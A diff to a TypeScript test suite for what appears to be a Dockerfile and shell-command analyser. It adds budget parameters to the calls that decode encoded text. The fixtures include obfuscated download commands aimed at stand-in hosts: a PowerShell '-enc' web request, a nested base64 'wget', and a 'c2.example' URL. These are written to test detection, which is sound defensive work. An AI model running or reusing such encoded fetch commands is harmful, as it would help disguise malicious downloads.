@@ -2,8 +2,9 @@ import fc from 'fast-check';
 import t from 'tap';
 import type { DockerfileOptions, DockerfileReading } from '../../src/docker/dockerfile/model.js';
 import { readDockerfile } from '../../src/docker/dockerfile/read.js';
-import { decodeVariants } from '../../src/docker/shell-text.js';
-import { UNKNOWN } from '../../src/docker/shell-command.js';
+import { decodeVariants, textBudget } from '../../src/docker/shell-text.js';
+import { UNKNOWN, type Variable } from '../../src/docker/shell-command.js';
+import { unlimited } from '../../src/base/work.js';
 import { readShell } from '../../src/docker/shell-words.js';
 import { hold } from '../support/fuzz.js';
 
@@ -173,10 +174,13 @@ void t.test('heredocs, for BuildKit', (t) => {
   t.end();
 });
 
+const decode = (text: string, variable: Variable): ReturnType<typeof decodeVariants> =>
+  decodeVariants(text, variable, textBudget(text.length, unlimited()));
+
 void t.test('shell text: words, and encoded texts in it', (t) => {
   const env: Readonly<Record<string, string>> = { A: 'http://c2.example' };
   const words = (text: string): unknown =>
-    readShell(text, (name) => env[name], { left: 1e6 }).map((one) => one.words);
+    readShell(text, (name) => env[name], { left: 1e6, work: unlimited() }).map((one) => one.words);
   t.same(words('a "b c" d\\ e \'$A\' "$A"x ${B:-y} $\'\\x41\' # z\nf'), [
     ['a', 'b c', 'd e', '$A', 'http://c2.examplex', 'y', 'A'],
     ['f'],
@@ -224,7 +228,7 @@ void t.test('shell text: words, and encoded texts in it', (t) => {
     'echo MMZC4ZLWNFWC4ZLYMFWXA3DF | base32 -d',
     `powershell -enc ${Buffer.from(`iwr http://${find}`, 'utf16le').toString('base64')}`,
   ]) {
-    const { variants, truncated } = decodeVariants(text, (name) => env[name]);
+    const { variants, truncated } = decode(text, (name) => env[name]);
     t.ok(
       variants.some((variant) => variant.includes(find)),
       text,
@@ -233,8 +237,8 @@ void t.test('shell text: words, and encoded texts in it', (t) => {
   }
   let deep = `wget http://${find}/x`;
   for (let level = 0; level < 5; level++) deep = btoa(deep);
-  t.ok(decodeVariants(deep, () => undefined).truncated, 'five layers are one too many');
-  t.ok(decodeVariants('$A'.repeat(40_000), () => 'x'.repeat(1000)).truncated, 'growth is bounded');
+  t.ok(decode(deep, () => undefined).truncated, 'five layers are one too many');
+  t.ok(decode('$A'.repeat(40_000), () => 'x'.repeat(1000)).truncated, 'growth is bounded');
   t.end();
 });
 
@@ -289,7 +293,7 @@ void t.test('never throws, and takes linear time', async (t) => {
     'dockerfile: a soup of its parts',
     fc.property(soup, fc.boolean(), (text, buildkit) => {
       readDockerfile(encode(text), { ...options, builder: buildkit ? 'buildkit' : 'classic' });
-      decodeVariants(text, () => 'y');
+      decode(text, () => 'y');
     }),
     2000,
   );
@@ -321,7 +325,7 @@ void t.test('never throws, and takes linear time', async (t) => {
   ]) {
     const text = unit.repeat((2 * size) / unit.length);
     const started = performance.now();
-    decodeVariants(text, () => undefined);
+    decode(text, () => undefined);
     read(
       `FROM a\nRUN ${text.slice(0, 65_000)}\nENV ${text.slice(0, 65_000)}\nCOPY ${text.slice(0, 60_000)}\n`,
     );
